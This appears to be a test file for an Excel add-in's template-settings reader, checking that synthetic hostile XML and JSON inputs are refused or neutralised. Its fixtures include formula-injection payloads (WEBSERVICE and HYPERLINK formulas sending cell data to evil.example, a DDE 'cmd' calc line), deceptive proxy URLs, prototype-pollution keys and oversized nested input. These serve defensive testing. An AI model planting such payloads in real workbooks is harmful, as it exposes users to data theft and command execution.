/**
 * Hostile-input corpus, area "settings": the template settings a workbook carries in its
 * custom XML part, and template files (.json) — both made by whoever sent them. Every input
 * here is SYNTHETIC, built by the test to break the reader.
 *
 * Each case states the input, the outcome (refused with a message, or read with the hostile
 * part made harmless) and words the one-line nb and en messages must contain; the workbook
 * must be exactly as it was after reading, and a write over settings that are refused must
 * leave it so too. A proxy address is read as text and only ever proposed (see the pane's
 * proxy proposal): one that checkBaseUrl refuses is refused with its reason.
 */
import { applyPlan, GatewayError, type SettingsInput } from "../../../src/excel/apply-plan";
import { readTemplateSettings } from "../../../src/excel/settings-store";
import { registerUserTemplate, resetUserCatalog } from "../../../src/kostra/catalog";
import type { ReportPlan } from "../../../src/report/plan";
import { buildReport } from "../../../src/report/report";
import { settingsFromXml, settingsToXml, SETTINGS_NAMESPACE, type SettingsReadResult, type TemplateSettings } from "../../../src/report/template-settings";
import { checkBaseUrl } from "../../../src/sources/ssb/base-url";
import { sampleDataset } from "../../../src/sources/sample";
import { en } from "../../../src/taskpane/i18n/en";
import { nb } from "../../../src/taskpane/i18n/nb";
import { proxyProposalFor } from "../../../src/taskpane/state/proxyProposal";
import { describeTemplateFileProblem, readTemplateFile, TEMPLATE_FILE_FORMAT } from "../../../src/taskpane/state/templateFile";
import { createFakeExcel, type FakeExcel } from "../../support/fake-excel";
import { writtenSettings } from "../../support/settings-fixture";

const GOOD: TemplateSettings = writtenSettings({ source: { kind: "ssb" }, ownedSheets: [] });
const NS = SETTINGS_NAMESPACE;
const cdata = (json: string) => json.replace(/]]>/g, "]]]]><![CDATA[>");
const part = (json: string) => `<kostraBenchmark xmlns="${NS}" schemaVersion="1"><settings><![CDATA[${cdata(json)}]]></settings></kostraBenchmark>`;
const withJson = (changes: Record<string, unknown>) => JSON.stringify({ ...GOOD, ...changes });

const USER_TEMPLATE = {
  id: "mal-kunst",
  label: { nb: "Kunst", en: "Art" },
  indicators: ["kunstformidling", "bibliotek"],
  defaultComparisons: ["asker"],
  network: "asss",
};
const withTemplate = (template: Record<string, unknown>, indicators: unknown[] = []) =>
  withJson({ sectors: ["mal-kunst"], userTemplate: { template: { ...USER_TEMPLATE, ...template }, indicators } });
const USER_INDICATOR = {
  id: "bruker-12362-x",
  label: { nb: "Bibliotek", en: "Libraries" },
  unit: { nb: "kr", en: "NOK" },
  decimals: 0,
  measure: "key-figure",
  ssb: { table: "12362", regionDimension: "KOKkommuneregion0000", timeDimension: "Tid", select: { ContentsCode: ["KOSbelop0000"] } },
  weight: "none",
  defaultAverage: "simple",
  confidence: "high",
  definition: { nb: "d", en: "d" },
};

interface Case {
  name: string;
  /** The part's XML (or JSON put into a part as the product writes it). */
  xml: string;
  /** The same JSON as a template file, where the case applies to files too. */
  file?: string;
  outcome: "refused" | "read";
  /** Words the refusal must contain (nb, en); for a read, words the proxy refusal must contain. */
  words?: [RegExp, RegExp];
  /** Words a template file's refusal must contain, where they differ from the part's. */
  fileWords?: [RegExp, RegExp];
  /** For a read: what else must hold of the settings. */
  check?: (settings: TemplateSettings) => void;
}

/** The JSON as a template file (spliced as text: some cases are too deep to stringify). */
const fileOf = (json: string) => `{"format":${JSON.stringify(TEMPLATE_FILE_FORMAT)},${json.slice(1)}`;

const CASES: Case[] = [
  // Size and cost
  {
    name: "a part of 2 MB",
    xml: part(withJson({ comparisons: Array(100_000).fill("asker-asker-asker") })),
    outcome: "refused",
    words: [/for store \(over 1 MB\)/, /too large \(over 1 MB\)/],
    fileWords: [/for stor til å være en malfil \(over 1 MB\)/, /too large to be a template file \(over 1 MB\)/],
  },
  {
    name: "the part that took 16 s: 608 KB of unclosed settings starts",
    xml: `<kostraBenchmark xmlns="${NS}">` + "<settings><![CDATA[".repeat(32_000),
    outcome: "refused",
    words: [/skadet \(ikke gyldig XML\)/, /damaged \(not valid XML\)/],
  },
  {
    name: "a well-formed 608 KB part whose settings end tag has a space",
    xml: `<kostraBenchmark xmlns="${NS}"><settings><![CDATA[` + "<settings><![CDATA[".repeat(32_000) + "]]></settings ></kostraBenchmark>",
    outcome: "refused",
    words: [/skadet \(ikke gyldig XML\)/, /damaged \(not valid XML\)/],
  },
  {
    name: "JSON nested 200 000 deep",
    xml: part(`{"schemaVersion":1,"sectors":${"[".repeat(200_000)}${"]".repeat(200_000)}}`),
    outcome: "refused",
    words: [/«sectors\[0\]» forventet tekst/, /"sectors\[0\]" expected text/],
  },
  // Versions
  ...[0.5, -7, "1", 1e300].map(
    (version): Case => ({
      name: `schemaVersion ${JSON.stringify(version)}`,
      xml: part(withJson({ schemaVersion: version })),
      outcome: "refused",
      words: [/ukjent versjon/, /unknown version/],
      fileWords: [/malversjon dette tillegget ikke kjenner/, /template version this add-in does not know/],
    }),
  ),
  { name: "schemaVersion 99", xml: part(withJson({ schemaVersion: 99 })), outcome: "refused", words: [/nyere versjon .*malversjon 99/, /newer version .*template version 99/] },
  // Absurd numbers
  {
    name: "a user indicator with decimals 1e9",
    xml: part(withTemplate({ indicators: ["bruker-12362-x"] }, [{ ...USER_INDICATOR, decimals: 1e9 }])),
    outcome: "refused",
    words: [/«userTemplate\.indicators\[0\]\.decimals» må være høyst 4/, /"userTemplate\.indicators\[0\]\.decimals" must be at most 4/],
  },
  {
    name: "a template's own decimals of -1",
    xml: part(withTemplate({ decimals: { kunstformidling: -1 } })),
    outcome: "refused",
    words: [/decimals.*må være minst 0/, /decimals.*must be at least 0/],
  },
  { name: "a year of 1e309 (Infinity)", xml: part(withJson({ year: 1e309 }).replace('"year":null', '"year":1e309')), outcome: "refused", words: [/«year»/, /"year"/] },
  // Hostile proxy addresses: read, never used; the proposal is refused with the reason
  ...(
    [
      ["a user name before the host", "https://data.ssb.no@evil.example/", /brukernavn eller passord/, /user name or password/],
      ["plain http to another host", "http://evil.example/ssb", /må begynne med https:\/\//, /must start with https:\/\//],
      ["a query", "https://evil.example/ssb?x=1", /\? eller #/, /\? or #/],
      ["a javascript: address", "javascript:fetch('//evil.example')", /må begynne med https:\/\//, /must start with https:\/\//],
    ] as const
  ).map(
    ([what, baseUrl, nbWords, enWords]): Case => ({
      name: `a proxy address with ${what}`,
      xml: part(withJson({ source: { kind: "ssb", baseUrl } })),
      outcome: "read",
      words: [nbWords, enWords],
    }),
  ),
  {
    name: "a proxy address with a line break",
    xml: part(withJson({ source: { kind: "ssb", baseUrl: "https://evil.example/\nhttps://data.ssb.no" } })),
    outcome: "read",
    // An https address is proposed, never used unasked; the user sees it on one line, as it would be used.
    check: (s) => expect(proxyProposalFor(s.source, "", "workbook")?.check).toEqual({ ok: true, url: "https://evil.example/https://data.ssb.no", origin: "https://evil.example" }),
  },
  {
    name: "a proxy address of 5 000 characters",
    xml: part(withJson({ source: { kind: "ssb", baseUrl: `https://evil.example/${"a".repeat(5000)}` } })),
    outcome: "refused",
    words: [/«source\.baseUrl» er for lang/, /"source\.baseUrl" is too long/],
  },
  // Text that must stay text
  {
    name: "formula-like labels in a user template",
    xml: part(
      withTemplate({
        label: { nb: '=HYPERLINK("http://evil.example/?"&A1,"Kunst")', en: "+cmd|' /C calc'!A0" },
        labels: { kunstformidling: { nb: '=WEBSERVICE("http://evil.example/?"&A2)', en: "@SUM(1)" }, bibliotek: { nb: "-1+1", en: "=1" } },
      }),
    ),
    outcome: "read",
    check: (s) => expect(s.userTemplate?.template.labels?.kunstformidling.nb).toBe('=WEBSERVICE("http://evil.example/?"&A2)'),
  },
  {
    name: "characters XML forbids in a label and a file name",
    xml: part(withTemplate({ label: { nb: "a\u0000b\uFFFEc\uD800d", en: "x\u001Fy" } }).replace("\uFFFE", "\\ufffe")),
    outcome: "read",
    check: (s) => {
      expect(s.userTemplate?.template.label).toEqual({ nb: "a\uFFFDb\uFFFDc\uFFFDd", en: "x\uFFFDy" });
      // Written back, the part is valid XML again (the fake Excel refuses any other).
      expect(settingsToXml(s)).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/);
    },
  },
  // Objects where text belongs, prototype keys, foreign parts
  {
    name: "a formula object as the municipality",
    xml: part(withJson({ municipality: { formula: 'HYPERLINK("http://evil.example")' } })),
    outcome: "refused",
    words: [/«municipality» forventet tekst, fikk Object/, /"municipality" expected text/],
  },
  {
    name: "__proto__ keys at the top and in a template's labels",
    xml: part(withTemplate({ labels: JSON.parse('{"__proto__":{"nb":"x","en":"y"}}') }).replace("{", '{"__proto__":{"polluted":1},')),
    outcome: "read",
    check: (s) => {
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.getPrototypeOf(s)).toBe(Object.prototype);
      expect(Object.getPrototypeOf(s.userTemplate?.template.labels)).toBe(Object.prototype);
    },
  },
  { name: "a part of our namespace with another root", xml: `<settings xmlns="${NS}"><![CDATA[{}]]></settings>`, outcome: "refused", words: [/annet program/, /another program/] },
  { name: "a part that is not JSON", xml: part("=cmd|' /C calc'!A0"), outcome: "refused", words: [/ikke gyldig JSON/, /not valid JSON/] },
];

afterEach(() => resetUserCatalog());

/** The workbook a user has: one sheet of their own, with a value and a formula. */
function userWorkbook(): FakeExcel {
  const f = createFakeExcel({ sheets: ["Budsjett 2027"] });
  f.workbook.sheet("Budsjett 2027").setCell("B2", { value: 1234 });
  f.workbook.sheet("Budsjett 2027").setCell("C2", { formula: "=B2*2" });
  return f;
}

/** Put the part into the workbook as Excel would keep it; false when it is not well-formed XML (Excel refuses such a part). */
async function addPart(f: FakeExcel, xml: string): Promise<boolean> {
  try {
    await f.run(async (context) => {
      context.workbook.customXmlParts.add(xml);
      await context.sync();
    });
    return true;
  } catch {
    return false;
  }
}

/** What one linear pass over `text` costs here and now (copy, scan, JSON round trip), in ms. */
function linearPassMs(text: string): number {
  const started = performance.now();
  let n = 0;
  for (let i = 0; i < text.length; i++) n += text.charCodeAt(i) === 60 ? 1 : 0;
  const copy = JSON.parse(JSON.stringify(text)) as string;
  const ms = performance.now() - started;
  // (The results are used, so the passes cannot be optimised away.)
  if (copy.length !== text.length || n > text.length) throw new Error("a linear pass went wrong");
  return ms;
}

const SETTINGS: SettingsInput = { ...GOOD, sectors: ["plan-miljo-kultur"] };
const samplePlan = (sectors = ["plan-miljo-kultur"]): ReportPlan =>
  buildReport(sampleDataset(), { sectors, municipality: "0219", year: 2017, years: [2016, 2017], lang: "nb" }).plan;
const apply = (f: FakeExcel, plan: ReportPlan, settings = SETTINGS) =>
  applyPlan(plan, { settings, run: f.run, isSetSupported: (n, v) => f.Office.context.requirements.isSetSupported(n, v), now: () => new Date("2026-03-15T08:00:00Z") });

describe.each(CASES)("settings: $name", ({ xml, outcome, words, check }) => {
  it(`is ${outcome}, quickly, and reading leaves the workbook as it was`, async () => {
    const f = userWorkbook();
    const stored = await addPart(f, xml);
    const before = f.workbook.snapshot();
    const started = performance.now();
    const read: SettingsReadResult = stored ? await readTemplateSettings(f.run) : settingsFromXml(xml);
    // Quickly: no pass over the part that is worse than linear. The bound scales with what a
    // linear pass over the same text costs on this machine now (measured in the same run),
    // so a busy machine does not fail it and a quadratic reader still does.
    expect(performance.now() - started).toBeLessThan(Math.max(1000, 200 * linearPassMs(xml)));
    expect(f.workbook.snapshot()).toEqual(before);

    if (outcome === "refused") {
      expect(read.kind).toBe("invalid");
      if (read.kind !== "invalid") return;
      expect(read.reason.nb).toMatch(words![0]);
      expect(read.reason.en).toMatch(words![1]);
      for (const text of [read.reason.nb, read.reason.en]) {
        expect(text).not.toMatch(/\n/);
        expect(text.length).toBeLessThan(400);
      }
      if (stored) {
        // Writing over settings that cannot be read is refused, and changes nothing.
        const e = await apply(f, samplePlan()).catch((x: unknown) => x);
        expect(e).toBeInstanceOf(GatewayError);
        expect((e as GatewayError).text.nb).toMatch(/arbeidsboken er uendret/);
        expect(f.workbook.snapshot()).toEqual(before);
      }
      return;
    }

    expect(read.kind).toBe("ok");
    if (read.kind !== "ok") return;
    check?.(read.settings);
    if (words) {
      const proposal = proxyProposalFor(read.settings.source, "", "workbook");
      expect(proposal?.check.ok).toBe(false);
      if (proposal?.check.ok !== false) return;
      expect(proposal.check.reason.nb).toMatch(words[0]);
      expect(proposal.check.reason.en).toMatch(words[1]);
      expect(checkBaseUrl(read.settings.source.baseUrl ?? "").ok).toBe(false);
    }
  });
});

describe.each(CASES.filter((c) => c.xml.startsWith(`<kostraBenchmark xmlns="${NS}" schemaVersion="1"><settings><![CDATA[{`)))("template file: $name", ({ xml, outcome, words, fileWords }) => {
  it(`is ${outcome} as a file too`, () => {
    const json = xml.slice(xml.indexOf("<![CDATA[") + 9, xml.lastIndexOf("]]>")).replace(/]]]]><!\[CDATA\[>/g, "]]>");
    const started = performance.now();
    const read = readTemplateFile(fileOf(json));
    expect(performance.now() - started).toBeLessThan(1000);
    if (outcome === "read") {
      expect(read.ok).toBe(true);
      return;
    }
    expect(read.ok).toBe(false);
    if (read.ok) return;
    const [nbWords, enWords] = fileWords ?? words!;
    const [nbText, enText] = [describeTemplateFileProblem(read.problem, "mal.json", nb), describeTemplateFileProblem(read.problem, "mal.json", en)];
    expect(nbText).toMatch(nbWords);
    expect(enText).toMatch(enWords);
    for (const text of [nbText, enText]) expect(text).not.toMatch(/\n/);
  });
});

describe("a formula-like label from a workbook's settings", () => {
  it("is written as text: every formula in the workbook is one the report planned", async () => {
    const hostile = CASES.find((c) => c.name === "formula-like labels in a user template")!;
    const read = settingsFromXml(hostile.xml);
    if (read.kind !== "ok") throw new Error("expected the settings to be read");
    const user = read.settings.userTemplate!;
    expect(registerUserTemplate(user.template, user.indicators)).toEqual([]);
    const plan = samplePlan(["mal-kunst"]);
    const planned = new Set(plan.sheets.flatMap((s) => s.blocks.flatMap((b) => b.rows.flat().flatMap((c) => (c.kind === "formula" ? [c.formula] : [])))));
    const labels = plan.sheets.flatMap((s) => s.blocks.flatMap((b) => b.rows.flat().flatMap((c) => (c.kind === "text" ? [c.text] : []))));
    expect(labels).toContain('=WEBSERVICE("http://evil.example/?"&A2)');

    const f = userWorkbook();
    await apply(f, plan, { ...SETTINGS, sectors: ["mal-kunst"], userTemplate: user });
    const written = f.workbook.snapshot().sheets.flatMap((s) => Object.values(s.cells).flatMap((c) => (c.formula ? [c.formula] : [])));
    expect(written.length).toBeGreaterThan(0);
    for (const formula of written) expect(planned.has(formula) || formula === "=B2*2").toBe(true);
    expect(written.join("\n")).not.toMatch(/WEBSERVICE|HYPERLINK|cmd\|/);
    // The settings written with the report carry the labels as text again, readable by the same check.
    expect(settingsFromXml(f.workbook.customXmlParts()[0].xml)).toMatchObject({ kind: "ok", settings: { userTemplate: { template: { id: "mal-kunst" } } } });
  });
});
